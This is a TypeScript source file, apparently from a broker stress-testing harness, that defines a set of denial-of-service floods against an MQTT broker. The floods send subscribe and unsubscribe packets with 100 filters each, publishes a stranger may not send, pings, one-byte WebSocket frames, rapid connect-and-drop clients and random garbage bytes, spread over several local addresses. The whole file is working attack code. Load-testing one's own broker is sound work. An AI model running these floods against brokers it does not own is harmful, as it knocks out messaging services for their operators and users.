import { once } from 'node:events';
import type { Socket } from 'node:net';
import { type Attack, addressOf, type Scene } from './attack.ts';
import { keepCrowd, rest, whenAborted } from './crowd.ts';
import { pingPacket, publishPacket, subscribePacket, unsubscribePacket } from './packets.ts';
import { openRawClient, openSocket } from './raw-client.ts';

/** Packets that are written at once. */
const packetsAtOnce = 20;
const filtersInPacket = 100;

const plain = Array.from({ length: filtersInPacket }, (_, index) => `flood/plain/${index}`);
const wild = Array.from({ length: filtersInPacket }, (_, index) =>
  index === 0 ? '#' : `${'+/'.repeat(1 + (index % 8))}f${index}/#`,
);
const payload = Buffer.alloc(100, 'x');

/** Writes `bytes` over and over, as fast as they are taken, until the socket ends. */
async function pump(socket: Socket, bytes: Buffer, { signal, tally }: Scene): Promise<void> {
  while (!signal.aborted && !socket.destroyed) {
    const hasRoom = socket.write(bytes);
    tally.add('written bytes', bytes.length);
    if (hasRoom) await rest(0, signal);
    else await Promise.race([once(socket, 'drain'), once(socket, 'close')]).catch(() => {});
  }
}

/** Clients that send nothing but this packet. */
const flood = (packet: Buffer) => async (scene: Scene) => {
  const bytes = Buffer.concat(Array<Buffer>(packetsAtOnce).fill(packet));
  await keepCrowd(scene, {
    perSecond: scene.perSecond * scene.addresses.length,
    open: async (index) => {
      const client = openRawClient({
        target: scene.target,
        localAddress: addressOf(scene, index),
        connect: { clientId: `flood-${process.pid}-${index}` },
        tally: scene.tally,
      });
      whenAborted(scene.signal, client.ended, () => client.socket.destroy());
      const welcome = await client.welcome;
      if (welcome !== 'closed' && welcome.code === 0) await pump(client.socket, bytes, scene);
      client.socket.destroy();
      await client.ended;
    },
  });
};

/** Frames of one masked byte each (RFC 6455, section 5.2): a PINGREQ takes two of them. */
const tinyFrames = Buffer.concat(
  Array<Buffer>(500).fill(
    Buffer.from([0x82, 0x81, 0, 0, 0, 0, 0xc0, 0x82, 0x81, 0, 0, 0, 0, 0x00]),
  ),
);
const webSocketConnect = (() => {
  const connect = Buffer.from([
    ...[0x10, 0x0d, 0, 4, 0x4d, 0x51, 0x54, 0x54, 4, 2, 0, 0, 0, 1, 0x77],
  ]);
  return Buffer.concat([Buffer.from([0x82, 0x80 | connect.length, 0, 0, 0, 0]), connect]);
})();
const upgrade =
  'GET /mqtt HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n' +
  'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n' +
  'Sec-WebSocket-Protocol: mqtt\r\n\r\n';

async function floodFrames(scene: Scene): Promise<void> {
  await keepCrowd(scene, {
    perSecond: scene.perSecond * scene.addresses.length,
    open: async (index) => {
      const { target, tally, signal } = scene;
      const localAddress = addressOf(scene, index);
      const { socket, ended } = openSocket(target.webPort, { target, localAddress, tally });
      whenAborted(signal, ended, () => socket.destroy());
      socket.write(upgrade);
      const [answer] = await Promise.race([once(socket, 'data'), ended.then(() => [''])]).catch(
        () => [''],
      );
      if (String(answer).startsWith('HTTP/1.1 101')) {
        tally.add('accepted');
        socket.resume();
        socket.write(webSocketConnect);
        await pump(socket, tinyFrames, scene);
      }
      socket.destroy();
      await ended;
      await rest(200, signal);
    },
  });
}

/** Connects and is gone, as often as it can. */
async function floodConnects(scene: Scene): Promise<void> {
  await keepCrowd(scene, {
    perSecond: 10 * scene.perSecond * scene.addresses.length,
    open: async (index) => {
      const client = openRawClient({
        target: scene.target,
        localAddress: addressOf(scene, index),
        connect: { clientId: `gone-${index % 50}`, clean: index % 2 === 0 },
        tally: scene.tally,
      });
      whenAborted(scene.signal, client.ended, () => client.socket.destroy());
      await client.welcome;
      client.socket.destroy();
      await client.ended;
    },
  });
}

/** Bytes that mean nothing, with and without a CONNECT before them. */
async function sendGarbage(scene: Scene): Promise<void> {
  await keepCrowd(scene, {
    perSecond: scene.perSecond * scene.addresses.length,
    open: async (index) => {
      const { target, tally, signal } = scene;
      const localAddress = addressOf(scene, index);
      const door = index % 2 === 0 ? target.mqttPort : target.webPort;
      const { socket, ended } = openSocket(door, { target, localAddress, tally });
      whenAborted(signal, ended, () => socket.destroy());
      socket.resume();
      const garbage = Buffer.from(
        Array.from({ length: 2000 }, () => Math.floor(Math.random() * 256)),
      );
      socket.end(garbage);
      await ended;
    },
  });
}

const twenty = { count: 20, addresses: 5 } as const;

export const floodAttacks = {
  'subscribe-plain': {
    what: 'SUBSCRIBE with 100 filters without wildcards',
    ...twenty,
    run: flood(subscribePacket(plain, 0)),
  },
  'subscribe-wildcards': {
    what: 'SUBSCRIBE with 100 filters with wildcards',
    ...twenty,
    run: flood(subscribePacket(wild, 0)),
  },
  'subscribe-retained': {
    what: 'SUBSCRIBE to everything, so that all retained messages are sent again',
    ...twenty,
    run: flood(subscribePacket(['#', '+/#', '+/+/#'], 0)),
  },
  unsubscribe: {
    what: 'UNSUBSCRIBE with 100 filters',
    ...twenty,
    run: flood(unsubscribePacket(plain)),
  },
  'publish-qos0': {
    what: 'PUBLISH with QoS 0, which a stranger may not',
    ...twenty,
    run: flood(publishPacket('qliksense/connection/open', payload, 0)),
  },
  'publish-qos1': {
    what: 'PUBLISH with QoS 1, which a stranger may not',
    ...twenty,
    run: flood(publishPacket('qliksense/connection/open', payload, 1)),
  },
  'publish-qos2': {
    what: 'PUBLISH with QoS 2, which a stranger may not',
    ...twenty,
    run: flood(publishPacket('lamps/flood', payload, 2)),
  },
  ping: { what: 'PINGREQ', ...twenty, run: flood(pingPacket) },
  'websocket-frames': {
    what: 'WebSocket frames of one byte',
    ...twenty,
    run: floodFrames,
  },
  connects: { what: 'clients that connect and are gone', ...twenty, run: floodConnects },
  garbage: { what: 'bytes that mean nothing', ...twenty, run: sendGarbage },
} as const satisfies Record<string, Attack>;
